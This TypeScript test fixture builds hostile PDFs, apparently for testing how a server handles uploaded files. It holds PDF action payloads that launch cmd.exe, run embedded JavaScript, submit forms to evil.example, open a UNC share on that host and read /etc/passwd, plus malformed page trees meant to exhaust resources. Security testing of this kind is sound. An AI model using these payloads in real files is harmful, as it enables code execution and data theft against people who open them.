import { pdfFile } from '#server/testing/image-samples.ts';
import { scriptedPdf } from '#server/testing/pdf-samples.ts';
import type { HostileFile } from './hostile-file.ts';
import { HTML, SCRIPT } from './payloads.ts';

const SCRIPT_TEXT = SCRIPT.replaceAll(/[()\\]/g, String.raw`\$&`);

/** Actions that a PDF viewer would run. */
const ACTIONS: Record<string, string> = {
  JavaScript: `<< /S /JavaScript /JS (${SCRIPT_TEXT}) >>`,
  Launch: '<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>',
  URI: '<< /S /URI /URI (javascript:alert\\(1\\)) >>',
  GoToR: '<< /S /GoToR /F (\\\\\\\\evil.example\\\\share) /D [0 /Fit] >>',
  SubmitForm: '<< /S /SubmitForm /F (https://evil.example/) /Flags 4 >>',
  ImportData: '<< /S /ImportData /F (/etc/passwd) >>',
  Movie: '<< /S /Movie /T (x) >>',
  Rendition: `<< /S /Rendition /OP 0 /JS (${SCRIPT_TEXT}) >>`,
  GoToE: '<< /S /GoToE /T << /R /C /N (x) >> >>',
};

/**
 * PDFs with active content or a wrong structure. PDFs that take minutes are in server/platform/pdf-rendering.test.ts.
 */
export function hostilePdfs(): HostileFile[] {
  const script = ACTIONS['JavaScript'] ?? '';
  return [
    ...Object.entries(ACTIONS).map(([name, action]) =>
      pdf(`${name} on opening`, pdfFile([catalog('/OpenAction 4 0 R'), PAGES, page(), action])),
    ),
    pdf('a script of a page', pdfFile([catalog(), PAGES, page('/AA << /O 4 0 R /C 4 0 R >>'), script])),
    pdf('a script of a link', pdfFile([catalog(), PAGES, page('/Annots [5 0 R]'), script, LINK_ANNOTATION])),
    pdf('embedded HTML', pdfFile([catalog(NAMED_FILES), PAGES, page(), FILE_SPEC, stream(HTML)])),
    pdf('an XFA form', pdfFile([catalog('/AcroForm << /XFA 4 0 R >>'), PAGES, page(), stream(XFA)])),
    pdf('an external stream', pdfFile([catalog(), PAGES, page('/Contents 4 0 R'), EXTERNAL_STREAM])),
    pdf('a page tree with a loop', pdfFile([catalog(), '<< /Type /Pages /Count 9 /Kids [2 0 R] >>'])),
    pdf('a million pages', pdfFile([catalog(), PAGES.replace('/Count 1', '/Count 1000000'), page()])),
    pdf('a huge page', pdfFile([catalog(), PAGES, page('', '0 0 99999999 99999999')])),
    pdf('a page without a size', pdfFile([catalog(), PAGES, page('', '0 0 0 0')])),
    pdf('a loop of references', pdfFile(['1 0 R'])),
    pdf('no objects', Buffer.from('%PDF-1.7\n%%EOF')),
    pdf('scripts everywhere', scriptedPdf()),
  ];
}

const PAGES = '<< /Type /Pages /Count 1 /Kids [3 0 R] >>';
const LINK_ANNOTATION = '<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A 4 0 R >>';
const NAMED_FILES = '/Names << /EmbeddedFiles << /Names [(x.html) 4 0 R] >> >> /PageMode /UseAttachments';
const FILE_SPEC = '<< /Type /Filespec /F (x.html) /EF << /F 5 0 R >> >>';
const EXTERNAL_STREAM = '<< /Length 0 /F (file:///etc/passwd) >>\nstream\n\nendstream';
const XFA = `<xdp xmlns="http://ns.adobe.com/xdp/"><script contentType="application/x-javascript">${SCRIPT}</script></xdp>`;

function pdf(what: string, content: Buffer): HostileFile {
  return { title: `PDF with ${what}`, fileName: 'proof.pdf', type: 'application/pdf', content };
}

function catalog(entries = ''): string {
  return `<< /Type /Catalog /Pages 2 0 R ${entries} >>`;
}

function page(entries = '', box = '0 0 595 842'): string {
  return `<< /Type /Page /Parent 2 0 R /MediaBox [${box}] ${entries} >>`;
}

function stream(content: string): string {
  return `<< /Length ${content.length} >>\nstream\n${content}\nendstream`;
}
